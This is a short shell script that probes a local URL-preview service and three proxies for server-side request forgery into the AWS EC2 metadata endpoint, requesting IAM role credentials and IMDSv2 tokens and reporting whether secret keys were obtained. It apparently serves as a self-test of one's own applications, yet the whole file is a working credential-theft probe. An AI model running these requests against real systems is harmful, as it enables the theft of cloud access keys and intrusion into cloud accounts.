# What a stranger tries on the applications. One line for each: its name, the status, and what was got by it.
service=http://169.254.169.254/latest
role=meta-data/iam/security-credentials/web
ttl='X-aws-ec2-metadata-token-ttl-seconds: 21600'

try() {
    name=$1
    shift
    answer=$(curl --silent --max-time 10 --noproxy '' --write-out ' %{http_code}' "$@")
    case $answer in
    *SecretAccessKey*) got=keys ;;
    AQAEA*) got=token ;;
    *) got=nothing ;;
    esac
    echo "$name ${answer##* } $got"
}

try preview "http://127.0.0.1:8001/?url=$service/$role"
try preview-token "http://127.0.0.1:8001/?url=$service/api/token"
try forward-proxy --proxy http://127.0.0.1:8002 "$service/$role"
try forward-proxy-token --proxy http://127.0.0.1:8002 --request PUT --header "$ttl" "$service/api/token"
try reverse-proxy --header 'Host: 169.254.169.254' "http://127.0.0.1:8003/latest/$role"
try reverse-proxy-token --header 'Host: 169.254.169.254' --request PUT --header "$ttl" http://127.0.0.1:8003/latest/api/token
try anonymous-proxy --proxy http://127.0.0.1:8004 "$service/$role"
try anonymous-proxy-token --proxy http://127.0.0.1:8004 --request PUT --header "$ttl" "$service/api/token"
